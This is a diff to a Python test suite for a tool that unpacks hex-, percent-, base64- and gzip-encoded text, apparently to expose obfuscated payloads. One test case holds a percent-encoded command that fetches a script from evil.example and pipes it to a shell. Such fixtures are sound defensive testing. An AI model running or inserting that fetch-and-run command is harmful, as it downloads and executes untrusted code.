@@ -87,6 +87,7 @@ CASES = [
     (escaped(ESCAPE, COMMAND), "hex escapes"),
     (f"printf '{escaped(ESCAPE, COMMAND).upper().replace('X', 'x')}'", "hex escapes"),
     (escaped("%", COMMAND), "percent escapes"),
+    (f"{b64(bytes(range(200, 254)))}\n{b64(COMMAND)}", "base64"),
     ("/run?cmd=curl%20-s%20https%3A%2F%2Fevil.example%2Fx%20%7C%20sh", "percent escapes"),
 ]  # fmt: skip
 
@@ -164,6 +165,29 @@ def test_a_card_that_cuts_what_it_unpacked_asks_for_the_full_view() -> None:
     assert shown.nodes[0].decoded[0].hidden > 0
     [whole] = full("t", {"a": text}, KEY).nodes[0].decoded
     assert "line 499" in "".join(piece.text for piece in whole.pieces)
+
+
+def test_a_card_without_room_for_what_it_unpacked_counts_it() -> None:
+    long = b64(gzip.compress(b"\n".join(b"line %d" % at for at in range(500)), mtime=0))
+    shown = card("t", {f"k{at}": long for at in range(20)}, KEY)
+    texts = said(tuple(each for node in shown.nodes for each in node.decoded))
+    assert ": ⟦1 more unpacked text not shown⟧" in texts
+    assert shown.truncated
+
+
+def test_what_is_packed_in_what_escapes_pack_is_shown_inside_it() -> None:
+    text = f"/run?x=%5B%22%5D&y={b64(COMMAND)}"
+    for view in (card, full):
+        escapes, inside = unpacked(text, view)
+        assert escapes == f'percent escapes: /run?x=["]&y={b64(COMMAND)}'
+        assert inside == f"base64: {COMMAND}"
+
+
+def test_what_unpacks_to_nothing_is_said_to_be_empty() -> None:
+    for view in (card, full):
+        assert unpacked(b64(gzip.compress(b"", mtime=0)), view) == [
+            "gzip in base64: ⟦empty⟧"
+        ]
 
 
 def test_a_card_shows_five_payloads_of_a_text_and_counts_the_others() -> None:
